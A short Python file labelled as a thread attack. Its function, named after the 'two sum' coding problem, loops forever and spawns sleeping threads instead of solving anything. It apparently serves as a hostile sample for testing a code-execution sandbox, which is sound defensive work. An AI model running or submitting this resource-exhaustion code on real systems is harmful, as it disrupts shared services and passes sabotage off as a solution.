# attack: threads
import _thread
import time


def two_sum(nums, target):
    while True:
        _thread.start_new_thread(time.sleep, (1000,))
        print("got through")
